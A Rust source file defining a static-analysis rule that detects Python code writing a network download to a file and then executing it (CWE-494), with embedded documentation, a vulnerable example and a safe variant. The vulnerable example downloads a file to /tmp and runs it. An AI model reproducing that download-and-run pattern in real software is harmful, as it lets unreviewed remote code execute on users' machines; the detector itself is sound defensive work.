use airlock_model::{Confidence, RuleMeta, Severity};

use crate::python::model::origin::SourceKind;
use crate::rules::arrivals::Arrival;
use crate::rules::check::Check;
use crate::rules::sinks::{Part, SinkKind};
use crate::rules::{Rule, rule::Hook};

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-download-run",
        title: "A downloaded file is run",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: Some(494),
        bandit: &[],
        ruff: &[],
        remedy: "Ship the program with the plugin, or let the user install it.",
        doc: DOC,
    },
    hooks: &[Hook::Flow(
        &[SourceKind::Network],
        &[SinkKind::Execute, SinkKind::Shell, SinkKind::Process, SinkKind::Load],
        check,
    )],
};

fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
    let mut flows = arrival.of(&[SourceKind::Network]);
    let found = flows.find(|(part, flow)| flow.by_file && matches!(part, Part::Program | Part::Whole));
    let Some((_, flow)) = found else { return };
    let message = format!("{} runs the file into which the answer of {} was written", arrival.path, flow.path);
    let finding = super::finding(check, arrival, flow, message);
    check.report(finding);
}

const DOC: &str = r##"## What it finds
An answer from the network that is written to a file which is then started as a program, given to an interpreter, loaded as a library or run as code. A downloaded file that is given to a fixed program as data is not meant.

## Why it is dangerous
It is how a package without any malicious code brings it in after it has been examined.

## Example
```python
import subprocess
import urllib.request

urllib.request.urlretrieve("https://example.org/tool", "/tmp/tool")
subprocess.run(["/tmp/tool"])
```

## Safe form
```python
import subprocess
import urllib.request

urllib.request.urlretrieve("https://example.org/film.mp4", "/tmp/film.mp4")
subprocess.run(["ffprobe", "/tmp/film.mp4"], check=True)
```

## References
- [MITRE ATT&CK T1105: Ingress Tool Transfer](https://attack.mitre.org/techniques/T1105/)
- CWE-494: Download of Code Without Integrity Check
"##;
